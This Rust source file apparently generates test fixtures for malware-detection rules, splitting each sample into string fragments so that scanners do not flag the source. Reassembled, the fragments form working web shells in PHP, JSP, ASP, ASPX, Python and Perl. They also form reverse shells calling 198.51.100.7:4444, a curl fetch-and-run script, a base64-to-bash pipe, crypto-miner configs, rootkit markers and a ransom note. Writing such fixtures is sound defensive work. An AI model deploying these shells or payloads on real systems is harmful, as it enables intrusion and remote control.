//! Files that rules are there to find. They are put together from pieces, so that no scanner takes this source for one.

use std::fs;
use std::path::Path;

/// Each rule of ours with the name of a file and the pieces that it is made of.
#[rustfmt::skip]
const SAMPLES: &[(&str, &str, &[&str])] = &[
    ("eicar_test_file", "eicar.com", &["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI", "CAR-STANDARD-ANTI", "VIRUS-TEST-FILE!$H+H*"]),
    ("php_runs_what_is_asked", "run.php", &["<?", "php echo 'x'; sys", "tem($_G", "ET['c']); ?>"]),
    ("php_runs_what_is_asked", "run_decoded.inc", &["<?", "= @ev", "al(base64", "_decode($_PO", "ST['k']));"]),
    ("php_calls_what_is_asked", "call.php", &["<?", "php $_GE", "T['f']($_PO", "ST['a']);"]),
    ("php_runs_packed_text", "packed.php", &["<?", "php ev", "al(gzin", "flate(base64", "_decode('S03OyFdIzs8rSc0rUUgsylEoSS0u0VFIzUvOT0lVSM4vzStRSCwqSlRIzy9SAAA')));"]),
    ("php_inside_an_image", "logo.gif", &["GIF", "89a\x01\x01<?", "php ev", "al($x); ?>"]),
    ("jsp_runs_what_is_asked", "run.jsp", &["<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRun", "time().ex", "ec(request.getPara", "meter(\"c\")); %>"]),
    ("jsp_loads_what_is_asked", "load.jsp", &["<%! class U extends Class", "Loader { Class g(byte[] b) { return define", "Class(b, 0, b.length); } } %><% Cipher.get", "Instance(\"AES\"); request.get", "Reader(); %>"]),
    ("asp_runs_what_is_asked", "run.aspx", &["<%@ Page Language=\"JScript\" %><% ev", "al(Reque", "st.Item[\"k\"]); %>"]),
    ("asp_runs_what_is_asked", "run.asp", &["<% exec", "ute(requ", "est(\"k\")) %>"]),
    ("aspx_starts_a_shell", "shell.aspx", &["<%@ Page Language=\"C#\" %><% var s = new Process", "StartInfo(\"cmd.", "exe\", \"/c \" + Request[\"c\"]); s.Redirect", "StandardOutput = true; %>"]),
    ("python_runs_what_is_asked", "app.py", &["import os\nfrom flask import request\nprint(os.po", "pen(reque", "st.args.get('c')).read())\n"]),
    ("perl_runs_what_is_asked", "run.cgi", &["#!/usr/bin/perl\nuse CG", "I;\nmy $q = CGI->new; sys", "tem($q->par", "am('c'));\n"]),
    ("miner_program", "kworker", &["\x7fELF\x02\x01\x01 stratum", "+tcp:// mining.sub", "scribe donate-", "level random", "x"]),
    ("miner_settings", "config.json", &["{\"pools\": [{\"url\": \"stratum", "+tcp://pool.example.org:3333\", \"user\": \"4", "8888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888\"}], \"donate-", "level\": 1}"]),
    ("miner_start_script", "start.sh", &["#!/bin/sh\n./m --url=pool.example.org:3333 --us", "er=4", "8888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888\n"]),
    ("shell_over_a_device", "home.sh", &["bash", " -i >& /dev/", "tcp/198.51.100.7/4444 0>&1\n"]),
    ("shell_over_netcat", "pipe.sh", &["rm -f /tmp/f; mk", "fifo /tmp/f; cat /tmp/f | /bin/", "sh -i 2>&1 | nc", " 198.51.100.7 4444 > /tmp/f\n"]),
    ("shell_over_python", "home.py", &["import socket,os,pty\ns=socket.socket();s.con", "nect((\"198.51.100.7\",4444))\nos.du", "p2(s.fileno(),0)\npty.sp", "awn(\"/bin/sh\")\n"]),
    ("shell_over_perl_ruby_php", "home.pl", &["use Socket;socket(S,PF_", "INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr", "_in(4444,inet_aton('198.51.100.7')))){ex", "ec(\"/bin/sh -i\");}"]),
    ("script_fetches_and_runs", "get.sh", &["#!/bin/sh\ncu", "rl -s http://198.51.100.7/x -o /tm", "p/.x\nchm", "od +x /tmp/.x\nnoh", "up /tmp/.x &\n"]),
    ("script_runs_decoded_text", "decoded.sh", &["#!/bin/sh\necho ", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWkFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaQUJDREVGR0hJSktMTU5P", " | base", "64 -d | ba", "sh\n"]),
    ("packed_program_in_a_shared_place", "shared/packed", &["\x7fELF\x02\x01\x01", " UP", "X! "]),
    ("program_with_another_end", "holiday.jpg", &["\x7fELF\x02\x01\x01 a program"]),
    ("preloaded_library_that_hides", "libhide.so", &["\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0 /etc/ld.so.pre", "load\0readdir", "64\0dlsym\0__xstat\0fopen\0acc", "ept\0"]),
    ("kernel_module_that_hides", "hide.ko", &["\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x01\0 verma", "gic=6.1 kallsyms_lookup", "_name getdents64 commit", "_creds"]),
    ("ransom_note", "README.txt", &["All of your files have been encr", "ypted. To get the decryp", "tor, send 2 bit", "coin. Use Tor Bro", "wser. Do not rename them.\n"]),
];

/// Writes all samples below a folder, and gives each file's name with the rule that finds it.
pub fn write(folder: &Path) -> Vec<(&'static str, &'static str)> {
    let mut written = Vec::new();
    for (rule, name, pieces) in SAMPLES {
        let file = folder.join(name);
        fs::create_dir_all(file.parent().expect("a folder")).expect("a folder can be made");
        fs::write(&file, pieces.concat()).expect("a sample can be written");
        written.push((*name, *rule));
    }
    written
}

/// The pieces of the first sample that a rule finds.
pub fn pieces(rule: &str) -> &'static [&'static str] {
    let sample = SAMPLES.iter().find(|(finds, ..)| *finds == rule);
    sample.map(|(_, _, pieces)| *pieces).expect("a sample")
}
